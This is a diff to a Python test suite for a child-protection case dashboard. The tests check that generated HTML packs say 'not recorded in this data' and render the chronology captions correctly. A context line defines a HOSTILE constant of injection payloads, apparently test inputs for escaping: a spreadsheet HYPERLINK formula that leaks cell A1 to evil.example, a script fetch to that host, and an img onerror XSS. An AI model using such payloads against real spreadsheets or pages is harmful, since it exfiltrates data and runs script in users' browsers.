@@ -180,6 +180,50 @@ def test_an_annex_a_child_reads_not_recorded_never_late(tmp_path):
     assert "No core group attendance is recorded" not in text
 
 
+
+def test_the_chronology_title_is_plain_text(html_a):
+    """The timeline's title in the pack's caption is text: plotly's line break is not printed as "<br>"."""
+    caption = html_a[html_a.index("<figcaption>"):html_a.index("</figcaption>")]
+    assert "&lt;br&gt;" not in caption and "<br>" not in caption
+    assert re.search(r"<strong>\d+ CP plans?, \d+ events?, \d+ household changes?, \d+ challenges?", caption)
+
+
+def test_an_annex_a_pack_says_adult_needs_and_the_title_counts_are_not_recorded(tmp_path):
+    """Annex A records no needs, household changes or challenges: the cover and the chronology's title say so,
+    never "Adult needs still open 0" or "0 household changes, 0 challenges; 0 adult needs still open"; one event
+    is "1 event"."""
+    from paqa_dash.pipeline import run_import
+    from support.paths import FIXTURES
+
+    db = tmp_path / "annex.duckdb"
+    run_import([FIXTURES / "samples" / "annex_a" / "Annex_A.xlsx"], db)
+    annex = store.connect(db, read_only=True)
+    try:
+        children = [r[0] for r in annex.execute("SELECT DISTINCT child_id FROM plans ORDER BY 1").fetchall()]
+        packs = [pack.build_pack(annex, child) for child in children]
+    finally:
+        annex.close()
+    for html in packs:
+        cover = html[:html.index('id="chronology"')]
+        rows = dict(re.findall(r"<dt>(.*?)</dt>\s*<dd>(.*?)</dd>", cover, re.S))
+        assert rows["Adult needs still open"] == "not recorded in this data"
+        # no plan actions: a first plan ended prematurely is not assessed (as on the audit sample page)
+        unassessed = re.search(r"Not assessed, not recorded in this data: ([^<]*)", cover).group(1)
+        assert "first plan ended prematurely" in unassessed
+        caption = html[html.index("<figcaption>"):html.index("</figcaption>")]
+        title = re.search(r"<strong>(.*?)</strong>", caption).group(1)
+        assert "not recorded: household changes, challenges, written agreements, adult needs" in title
+        assert not re.search(r"\b0 (household|challenge|adult)", title) and "&lt;br&gt;" not in title
+        assert not re.search(r"\b1 events\b", re.sub(r"<[^>]+>", " ", html))
+        # no core groups, so no multi-agency chronology to find a challenge in (as the Challenge page says)
+        text = re.sub(r"<[^>]+>", " ", html)
+        assert "No challenge or escalation is recorded" not in text and "No written agreement is recorded" not in text
+        assert "Challenge and escalation are not recorded in this data" in text
+        assert "Written agreements are not recorded in this data" in text
+    # the repeat plans' earlier plans are only a count: whether they came within the window is not assessed
+    assert any("re-planned within the window" in re.search(r"Not assessed, not recorded in this data: ([^<]*)",
+                                                             html).group(1) for html in packs)
+
 HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") <script>fetch('http://evil.example')</script> "
            "[see the report](http://evil.example/x) <img src=x onerror=alert(1)>")
 
